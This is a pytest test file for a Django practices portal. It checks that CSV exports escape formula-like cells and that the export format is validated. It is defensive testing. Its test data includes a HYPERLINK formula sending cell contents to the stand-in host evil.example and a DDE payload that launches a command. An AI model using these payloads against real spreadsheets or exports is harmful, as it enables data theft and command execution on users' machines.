"""The practice export opened in a spreadsheet runs nothing a nominator typed (review L2),
and `file_format` takes only the formats the export offers (review I2, ST201)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from portal.models import Municipality, Theme
from practices.models import Practice

pytestmark = pytest.mark.usefixtures("reference_data")

# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The review's payloads, as a member of municipal staff typed them into the nomination form.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
CMD = "+cmd|' /C calc'!A0"
NOMINATION = {
    "title_th": "ธนาคารขยะชุมชน", "title_en": HYPERLINK, "summary_th": CMD,
    "summary_en": "-2+3", "award": "=1+1", "tags": "@SUM(1+1), ขยะ", "year_started": "2562",
}


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_no_cell_starts_a_formula(rows):
    cells = [value for row in rows for value in row.values()]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def nominated(client, staff_user, league_admin):
    """Nominated through the form, published through the API by a League admin."""
    client.force_login(staff_user)
    response = client.post("/practices/nominate/", {
        **NOMINATION, "municipality": Municipality.objects.get(name_th="เทศบาลนครยะลา").pk,
        "themes": [Theme.objects.get(code="environment").pk]})
    assert response.status_code == 302
    client.logout()
    practice = Practice.objects.get(title_th="ธนาคารขยะชุมชน")
    admin_api = APIClient()
    admin_api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=league_admin)}")
    published = admin_api.post(f"/api/practices/{practice.slug}/status/",
                               {"status": "published"}, format="json")
    assert published.status_code == 200, published.content
    return practice


def test_anonymous_csv_export_escapes_every_formula(nominated):
    [row] = rows_of(APIClient().get("/api/practices/export/", {"file_format": "csv"}))
    assert row["title_en"] == "'" + HYPERLINK
    assert row["summary_th"] == "'" + CMD
    assert row["summary_en"] == "'-2+3"  # text that looks like a sum is text
    assert row["award"] == "'=1+1"
    assert row["tags"].split(";")[0] == "'@SUM(1+1)"
    assert row["title_th"] == "ธนาคารขยะชุมชน" and row["year"] == "2019"
    assert_no_cell_starts_a_formula([row])


def test_text_cells_are_quoted_and_numbers_are_not(nominated):
    body = APIClient().get("/api/practices/export/", {"file_format": "csv"}).content
    text = body.decode("utf-8-sig")
    assert f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}"' in text
    # A spreadsheet that splits on ";" still sees one cell: the text is in quotes.
    assert '"\'@SUM(1+1);ขยะ"' in text or '"ขยะ;\'@SUM(1+1)"' in text
    assert ",2019," in text


def test_the_admin_action_exports_the_same_escaped_csv(client, nominated, league_admin):
    client.force_login(league_admin)
    response = client.post("/admin/practices/practice/", {
        "action": "export_csv", "_selected_action": [nominated.pk]})
    [row] = rows_of(response)
    assert row["title_en"] == "'" + HYPERLINK and row["award"] == "'=1+1"
    assert_no_cell_starts_a_formula([row])


def test_json_export_keeps_the_text_as_typed(nominated):
    response = APIClient().get("/api/practices/export/")
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    [item] = response.json()
    assert item["title_en"] == HYPERLINK and item["summary_th"] == CMD
    assert item["summary_en"] == "-2+3" and item["award"] == "=1+1"
    assert "@SUM(1+1)" in item["tags"] and item["year"] == 2019
    assert APIClient().get("/api/practices/export/", {"file_format": "json"}).json() == [item]


def test_imported_text_with_a_leading_tab_or_carriage_return_is_escaped(tmp_path):
    # The JSONL import keeps English texts as they are: a value copied out of a spreadsheet
    # can start with a tab or a carriage return.
    record = {"external_id": "tab-1", "title_th": "ตลาดนัดสีเขียว", "summary_th": "ลดขยะ",
              "municipality": "เทศบาลนครยะลา", "province": "ยะลา", "themes": ["environment"],
              "year": 2019, "title_en": "\t=1+1", "summary_en": "\r=1+1", "award": "-1"}
    path = tmp_path / "practices.jsonl"
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    call_command("import_practices", str(path), "--publish")
    [row] = rows_of(APIClient().get("/api/practices/export/", {"file_format": "csv"}))
    assert row["title_en"] == "'\t=1+1"
    assert row["summary_en"] == "'\r=1+1"
    assert row["award"] == "'-1"
    assert_no_cell_starts_a_formula([row])


def test_a_real_negative_number_stays_a_number_but_its_text_does_not():
    from portal.spreadsheets import csv_document

    text = csv_document(["amount", "note"], [{"amount": -3, "note": "-3"},
                                             {"amount": 2.5, "note": None}])
    assert text == '\ufeff"amount","note"\r\n-3,"\'-3"\r\n2.5,\r\n'


@pytest.mark.parametrize("value", ["AAA", "CSV", "xlsx", ""])
def test_an_unknown_file_format_is_refused_with_the_formats_offered(value):
    # The API answers in Thai, the portal's language.
    response = APIClient().get("/api/practices/export/", {"file_format": value})
    assert response.status_code == 400
    assert response.json() == {"file_format": [
        f"“{value}” ไม่ใช่รูปแบบไฟล์ที่ส่งออกได้ เลือกได้จาก: json, csv"]}
